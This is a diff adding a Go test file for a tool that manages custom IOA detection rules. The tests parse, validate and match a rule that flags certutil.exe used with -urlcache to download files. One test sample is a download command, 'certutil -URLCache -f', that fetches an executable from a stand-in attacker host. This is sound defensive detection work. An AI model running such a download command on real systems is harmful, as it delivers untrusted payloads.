@@ -0,0 +1,249 @@
+// Copyright (c) 2022 CrowdStrike, Inc.
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package customioa
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+const certutil = `
+kind: CustomIOARule
+name: certutil download
+rule_group: LOLBins
+rule_type: Process Creation
+severity: High
+action: Detect
+fields:
+  - name: ImageFilename
+    include: '.*\\certutil\.exe'
+  - name: CommandLine
+    include: '.*-urlcache.*'
+    exclude: '.*http://localhost.*'
+  - name: GrandparentImageFilename
+`
+
+func TestReadSpecs(t *testing.T) {
+	specs, err := ReadSpecs(strings.NewReader(certutil))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	want := []*RuleSpec{{
+		Kind:      Kind,
+		Name:      "certutil download",
+		RuleGroup: "LOLBins",
+		RuleType:  "Process Creation",
+		Severity:  "high",
+		Action:    "Detect",
+		Fields: []Field{
+			{Name: "ImageFilename", Type: FieldExcludable, Include: `.*\\certutil\.exe`},
+			{Name: "CommandLine", Type: FieldExcludable, Include: ".*-urlcache.*", Exclude: ".*http://localhost.*"},
+			{Name: "GrandparentImageFilename", Type: FieldExcludable, Include: ".*"},
+		},
+	}}
+	if diff := cmp.Diff(want, specs); diff != "" {
+		t.Errorf("ReadSpecs() mismatch (-want +got):\n%s", diff)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	valid := func() RuleSpec {
+		return RuleSpec{Kind: Kind, Name: "r", RuleType: "Process Creation", Severity: "low", Action: "Monitor",
+			Fields: []Field{{Name: "CommandLine", Include: ".*whoami.*"}}}
+	}
+
+	tests := []struct {
+		name   string
+		modify func(s *RuleSpec)
+		err    string
+	}{
+		{name: "valid", modify: func(s *RuleSpec) {}},
+		{name: "set field", modify: func(s *RuleSpec) { s.Fields = []Field{{Name: "FileType", Values: []string{"EXE"}}} }},
+		{name: "wrong kind", modify: func(s *RuleSpec) { s.Kind = "IOAExclusion" }, err: "expected kind"},
+		{name: "severity", modify: func(s *RuleSpec) { s.Severity = "urgent" }, err: "severity"},
+		{name: "action", modify: func(s *RuleSpec) { s.Action = "" }, err: "action is required"},
+		{name: "invalid regex", modify: func(s *RuleSpec) { s.Fields[0].Include = "(whoami" }, err: "invalid include regex of field CommandLine"},
+		{name: "invalid exclude", modify: func(s *RuleSpec) { s.Fields[0].Exclude = "[a-" }, err: "invalid exclude regex"},
+		{name: "duplicate field", modify: func(s *RuleSpec) { s.Fields = append(s.Fields, Field{Name: "commandline"}) }, err: "more than once"},
+		{name: "values and include", modify: func(s *RuleSpec) { s.Fields[0].Values = []string{"x"} }, err: "takes values, not include"},
+		{name: "matches anything", modify: func(s *RuleSpec) { s.Fields[0].Include = "" }, err: "every field matches anything"},
+		{name: "no fields", modify: func(s *RuleSpec) { s.Fields = nil }, err: "at least one field"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			spec := valid()
+			tt.modify(&spec)
+			err := spec.Validate()
+			if tt.err == "" && err != nil {
+				t.Errorf("Validate() = %v", err)
+			}
+			if tt.err != "" && (err == nil || !strings.Contains(err.Error(), tt.err)) {
+				t.Errorf("Validate() = %v, want error containing %q", err, tt.err)
+			}
+		})
+	}
+}
+
+func TestCheckFields(t *testing.T) {
+	rt := &RuleType{Name: "Process Creation", Fields: []string{"ImageFilename", "CommandLine"}}
+	spec := &RuleSpec{Fields: []Field{{Name: "commandline"}}}
+	if err := spec.CheckFields(rt); err != nil {
+		t.Errorf("CheckFields() = %v", err)
+	}
+
+	spec.Fields = append(spec.Fields, Field{Name: "DomainName"})
+	if err := spec.CheckFields(rt); err == nil || !strings.Contains(err.Error(), "DomainName is not a field") {
+		t.Errorf("CheckFields() = %v, want unknown field error", err)
+	}
+}
+
+func TestResolve(t *testing.T) {
+	types := []*RuleType{
+		{ID: "1", Name: "Process Creation", Platform: "windows", Fields: []string{"ImageFilename", "CommandLine"},
+			Dispositions: []Disposition{{ID: 10, Label: "Monitor"}, {ID: 20, Label: "Detect"}}},
+		{ID: "2", Name: "Process Creation", Platform: "linux", Fields: []string{"ImageFilename", "CommandLine"}},
+	}
+
+	spec := &RuleSpec{RuleType: "process creation", Action: "detect", Fields: []Field{{Name: "CommandLine"}}}
+	rt, err := spec.Resolve(types, "windows")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rt.ID != "1" || spec.RuleType != "Process Creation" || spec.Action != "Detect" {
+		t.Errorf("Resolve() = %s, spec %q %q", rt.ID, spec.RuleType, spec.Action)
+	}
+
+	spec.Action = "Block"
+	if _, err := spec.Resolve(types, "windows"); err == nil || !strings.Contains(err.Error(), "must be one of: Monitor, Detect") {
+		t.Errorf("Resolve() = %v, want invalid action error", err)
+	}
+
+	spec.RuleType = "File Creation"
+	if _, err := spec.Resolve(types, "windows"); !errors.Is(err, ErrNotFound) {
+		t.Errorf("Resolve() = %v, want ErrNotFound", err)
+	}
+}
+
+func TestSpecRoundTrip(t *testing.T) {
+	specs, err := ReadSpecs(strings.NewReader(certutil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	spec := specs[0]
+	enabled := true
+	spec.Enabled = &enabled
+
+	r := &Rule{
+		Name:         spec.Name,
+		RuleTypeName: spec.RuleType,
+		Severity:     spec.Severity,
+		Action:       spec.Action,
+		Enabled:      true,
+		FieldValues:  spec.FieldValues(),
+	}
+
+	changes, err := Changes(r, spec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(changes) != 0 {
+		t.Errorf("Changes() of an unchanged rule = %v", changes)
+	}
+
+	spec.Fields[1].Exclude = ""
+	changes, err = Changes(r, spec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(changes) != 1 || changes[0].Path != "fields[1].exclude" {
+		t.Errorf("Changes() = %v, want the removed exclude", changes)
+	}
+
+	var buf bytes.Buffer
+	if err := WriteSpecs(&buf, []*RuleSpec{r.Spec("LOLBins")}); err != nil {
+		t.Fatal(err)
+	}
+	again, err := ReadSpecs(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []Field{
+		{Name: "ImageFilename", Type: FieldExcludable, Include: `.*\\certutil\.exe`},
+		{Name: "CommandLine", Type: FieldExcludable, Include: ".*-urlcache.*", Exclude: ".*http://localhost.*"},
+	}
+	if diff := cmp.Diff(want, again[0].Fields); diff != "" {
+		t.Errorf("written fields mismatch (-want +got):\n%s", diff)
+	}
+}
+
+func TestMatch(t *testing.T) {
+	specs, err := ReadSpecs(strings.NewReader(certutil))
+	if err != nil {
+		t.Fatal(err)
+	}
+	spec := specs[0]
+
+	tests := []struct {
+		sample map[string]string
+		want   *Result
+		err    string
+	}{
+		{
+			sample: map[string]string{"CommandLine": "certutil.exe -URLCache -f http://evil.example/a.exe a.exe"},
+			want:   &Result{Match: true},
+		},
+		{
+			sample: map[string]string{"CommandLine": "certutil -urlcache -f http://localhost/a", "imagefilename": `C:\Windows\System32\certutil.exe`},
+			want:   &Result{Reason: "CommandLine matches exclude"},
+		},
+		{
+			sample: map[string]string{"ImageFilename": `C:\Windows\System32\notcertutil.exe.bak`},
+			want:   &Result{Reason: "ImageFilename does not match include"},
+		},
+		{
+			sample: map[string]string{"ParentImageFilename": "cmd.exe"},
+			err:    "none of the regex fields",
+		},
+	}
+
+	for _, tt := range tests {
+		got, err := spec.Match(tt.sample)
+		if tt.err != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("Match(%v) = %v, want error containing %q", tt.sample, err, tt.err)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("Match(%v) = %v", tt.sample, err)
+			continue
+		}
+		if diff := cmp.Diff(tt.want, got); diff != "" {
+			t.Errorf("Match(%v) mismatch (-want +got):\n%s", tt.sample, diff)
+		}
+	}
+}